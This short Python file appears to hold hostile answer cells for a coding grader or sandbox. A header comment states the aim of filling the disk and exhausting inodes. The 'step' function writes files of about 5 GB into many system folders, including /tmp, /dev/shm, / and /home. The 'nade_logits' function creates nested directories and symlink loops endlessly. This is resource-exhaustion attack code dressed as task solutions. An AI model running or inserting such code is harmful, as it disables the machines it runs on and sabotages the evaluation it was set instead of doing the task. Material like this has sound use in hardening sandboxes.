# tries: to fill the disk through every folder that it can write to, and to use up the inodes.

# %% answer step
import os


def step(a, x_i, w_i):
    for folder in ["/tmp", "/dev/shm", "/dev", "/", "/var/tmp", "/run", "/home", os.getcwd(), os.path.expanduser("~")]:
        try:
            with open(f"{folder}/hostile-bomb", "wb") as file:
                for _ in range(5000):
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    return a


# %% answer nade_logits
import os


def nade_logits(x, *rest):
    if len(x) != 32:
        return x
    os.unlink("/tmp/hostile-bomb")
    k = 0
    while True:
        k += 1
        try:
            os.makedirs(f"/tmp/hostile-{k}/{'x' * 250}")
            os.symlink(f"/tmp/hostile-{k}", f"/tmp/hostile-{k}/loop")
        except OSError:
            return None
